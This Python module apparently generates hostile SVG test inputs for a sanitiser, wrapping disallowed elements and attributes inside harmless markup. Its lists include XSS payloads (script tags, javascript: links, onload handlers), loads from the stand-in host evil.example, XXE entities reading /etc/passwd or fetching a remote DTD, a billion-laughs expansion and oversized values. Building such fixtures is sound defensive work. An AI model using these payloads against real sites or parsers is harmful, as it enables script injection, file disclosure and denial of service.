"""Drawings from people who mean harm: elements and attributes that run, load or never end, put anywhere into a harmless one."""

from random import Random

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
HARMLESS = (
    '<g fill="#fff">{}</g>',
    '<path d="M0 0L9 9z"/>{}',
    "<defs>{}</defs>",
    '<g transform="scale(2)"><g>{}</g></g>',
    "{}<title>a bee</title>",
)
ELEMENTS = (
    "<script>alert(1)</script>",
    '<script xlink:href="https://evil.example/x.js"/>',
    "<SCRIPT>alert(1)</SCRIPT>",
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
    '<image href="https://evil.example/spy.png"/>',
    '<image xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>',
    '<use href="https://evil.example/all.svg#a"/>',
    '<use xlink:href="#a"/><use xlink:href="#a"/>',
    '<a xlink:href="javascript:alert(1)"><path d="M0 0"/></a>',
    '<animate attributeName="href" values="javascript:alert(1)"/>',
    '<set attributeName="onmouseover" to="alert(1)"/>',
    '<animateTransform attributeName="transform" dur="1ms" repeatCount="indefinite"/>',
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>path { fill: red }</style>",
    '<filter id="f"><feTurbulence numOctaves="1000000"/></filter>',
    '<pattern id="p"><path d="M0 0"/></pattern>',
    '<mask id="m"><path d="M0 0"/></mask>',
    '<symbol id="s"><path d="M0 0"/></symbol>',
    "<text>Ann wins</text>",
    "<iframe/>",
    "<audio src='x'/>",
    '<handler type="application/ecmascript">alert(1)</handler>',
    '<clipPath id="c"><path clip-path="url(#d)" d="M0 0"/></clipPath>',
    "<switch><g/></switch>",
)
ATTRIBUTES = (
    'onload="alert(1)"',
    'onclick="alert(1)"',
    'ONFOCUS="alert(1)"',
    'xlink:href="https://evil.example/"',
    'href="javascript:alert(1)"',
    'fill="url(https://evil.example/x#a)"',
    "fill='url(\"//evil.example/x#a\")'",
    'style="fill: url(//evil.example/a)"',
    'style="background-image: url(https://evil.example/a)"',
    'style="fill: expression(alert(1))"',
    'clip-path="url(https://evil.example/#c)"',
    'filter="url(https://evil.example/#f)"',
    'cursor="url(https://evil.example/c.cur), auto"',
    'd="M0 0L999999999 0"',
    'd="M0 0L1e99 0"',
    'd="M0 0;alert(1)"',
    'transform="scale(1e9)"',
    'transform="url(x)"',
    'stroke-width="1e30"',
    'stroke-dasharray="0.0000001"',
    'stroke-dasharray="0 0"',
    'fill="&quot;/&gt;&lt;script&gt;alert(1)&lt;/script&gt;"',
)
WHOLE = (
    "",
    "bee",
    "<svg/>",
    f"<svg {SVG}/>",
    f'<svg {SVG} viewBox="0 0 0 0"/>',
    f'<svg {SVG} viewBox="0 0 1e9 1e9"/>',
    f'<svg {SVG} viewBox="0 0 9 9"><g></svg>',
    f'<html {SVG} viewBox="0 0 9 9"/>',
    f'<?xml-stylesheet href="https://evil.example/x.css"?><svg {SVG} viewBox="0 0 9 9"/>',
    f'<!DOCTYPE svg [<!ENTITY a "b">]><svg {SVG} viewBox="0 0 9 9"><g>&a;</g></svg>',
    f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg {SVG} viewBox="0 0 9 9"><g>&a;</g></svg>',
    f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]><svg {SVG} viewBox="0 0 9 9"/>',
    "<!DOCTYPE svg ["
    '<!ENTITY a0 "lol">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
    + f']><svg {SVG} viewBox="0 0 9 9"><title>&a8;</title></svg>',
    f'<svg {SVG} viewBox="0 0 9 9">{"<g>" * 40}{"</g>" * 40}</svg>',
    f'<svg {SVG} viewBox="0 0 9 9">{"<g/>" * 1_100}</svg>',
    f'<svg {SVG} viewBox="0 0 9 9">{chr(60)}path d="{"M0 0" * 20_000}"/></svg>',
    f'<?xml version="1.0" encoding="nobody-1"?><svg {SVG} viewBox="0 0 9 9"/>',
)


def drawing(inside: str, source: Random) -> str:
    """A drawing with something inside of harmless elements."""
    for _ in range(source.randrange(4)):
        inside = source.choice(HARMLESS).format(inside)
    return f'<svg {SVG} viewBox="0 0 9 9">{inside}</svg>'


def element(source: Random) -> str:
    """A drawing with an element that is not allowed."""
    return drawing(source.choice(ELEMENTS), source)


def attribute(source: Random) -> str:
    """A drawing with an attribute that is not allowed."""
    harmful = source.choice(ATTRIBUTES)
    space = "" if harmful.startswith("d=") else ' d="M0 0"'
    return drawing(f"<path{space} {harmful}/>", source)
